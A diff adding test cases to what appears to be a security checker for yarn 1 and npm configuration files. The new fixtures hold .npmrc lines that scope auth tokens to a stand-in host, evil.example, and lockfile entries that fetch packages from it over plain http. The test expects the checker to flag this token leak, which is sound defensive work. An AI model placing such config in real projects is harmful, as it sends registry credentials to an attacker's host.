@@ -251,6 +251,20 @@ describe.skipIf(!requires(join(bins.classic, "yarn")))("yarn 1", () => {
     ["a file of requests", () => ({ ".yarnrc": "--install.har true\n" }), /\.yarnrc: --install\.har/],
     ["another folder", () => ({ ".yarnrc": '"--cwd" "foo"\n', "foo/.npmrc": "strict-ssl=false\n" }), /\.yarnrc: --cwd/],
     ["an authority", () => ({ ".npmrc": "cafile=./ca.pem\n" }), /\.npmrc: cafile/],
+    // Somebody in the network would see the request, which yarn 1 makes by plain http here.
+    ...[
+      ["a key for another host", "", "//evil.example/:_authToken=x\n"],
+      ["an empty key for another host", "", "//evil.example/:_password=\n"],
+      ["a key for another host in a folder above", "app/", "//evil.example/:_authToken=x\n"],
+    ].map(([what, folder, npmrc]): [string, () => Files, RegExp] => [
+      `${what}, and an archive there`,
+      () => ({
+        ".npmrc": npmrc!,
+        [`${folder}package.json`]: '{"name":"inner","dependencies":{"my-lib":"1.0.0"}}',
+        [`${folder}yarn.lock`]: `# yarn lockfile v1\n\nmy-lib@1.0.0:\n  version "1.0.0"\n  resolved "http://evil.example/my-lib-1.0.0.tgz"\n`,
+      }),
+      /\.npmrc: \/\/evil\.example\/:_(authToken|password) makes yarn 1 send its registry's token there/,
+    ]),
     [
       "a proxy in a folder above",
       (url) => ({
